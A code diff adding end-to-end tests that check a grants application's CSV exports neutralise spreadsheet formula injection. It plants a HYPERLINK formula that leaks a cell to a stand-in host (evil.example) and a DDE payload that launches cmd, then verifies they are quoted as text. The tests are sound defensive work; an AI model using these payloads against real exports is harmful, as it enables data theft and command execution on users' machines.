@@ -342,6 +342,36 @@ describe('exports: proposals.csv, grants.csv and iati.xml (e2e)', () => {
     });
   });
 
+  // Runs after the exports above have been checked with ordinary names: it turns a title and a name into formulas.
+  describe('formula injection', () => {
+    const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"clic")';
+    const FORMULA_NAME = "@SUM(1+9)*cmd|' /C calc'!A0";
+
+    beforeAll(async () => {
+      await app.dataSource.query('UPDATE proposals SET title = $1 WHERE id = $2', [FORMULA_TITLE, pending.proposalId]);
+      await app.dataSource.query('UPDATE organizations SET name = $1 WHERE id = $2', [FORMULA_NAME, paid.applicant.orgId]);
+    });
+
+    it('proposals.csv: a title or a name that a spreadsheet would run is quoted as text', async () => {
+      const { records } = csvRecords((await app.request('GET', '/exports/proposals.csv', { token: flow.pm })).body);
+      expect(records.find((r) => r.Identifiant === pending.proposalId)).toMatchObject({ Intitulé: `'${FORMULA_TITLE}`, 'Montant demandé': '45000000' });
+      expect(records.find((r) => r.Identifiant === paid.proposalId)).toMatchObject({ Organisation: `'${FORMULA_NAME}`, Intitulé: TITLE });
+    });
+
+    it('grants.csv: the same, while amounts stay numbers', async () => {
+      const { records } = csvRecords((await app.request('GET', `/exports/grants.csv?roundId=${flow.roundId}`, { token: flow.pm })).body);
+      expect(records.find((r) => r.Identifiant === pending.grantId)).toMatchObject({ Intitulé: `'${FORMULA_TITLE}`, 'Montant accordé': '30000000' });
+      expect(records.find((r) => r.Identifiant === paid.grantId)).toMatchObject({ Organisation: `'${FORMULA_NAME}`, 'Montant décaissé': '16000000' });
+    });
+
+    it('disbursements.csv: the payee organisation is quoted as text, the amount stays a number', async () => {
+      const rows = parseCsv((await app.request('GET', '/exports/disbursements.csv', { token: paid.officer.token })).body);
+      const row = rows.find((r) => r.includes(paid.grantId))!;
+      expect(row).toEqual(expect.arrayContaining([`'${FORMULA_NAME}`, '16000000']));
+      expect(rows.flat().some((cell) => /^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell))).toBe(false);
+    });
+  });
+
   it('lets finance, programme, admin and audit staff export, and refuses applicants, reviewers and the committee chair', async () => {
     const admin = await app.actor([Role.ADMIN]);
     const auditor = await app.actor([Role.AUDITOR]);
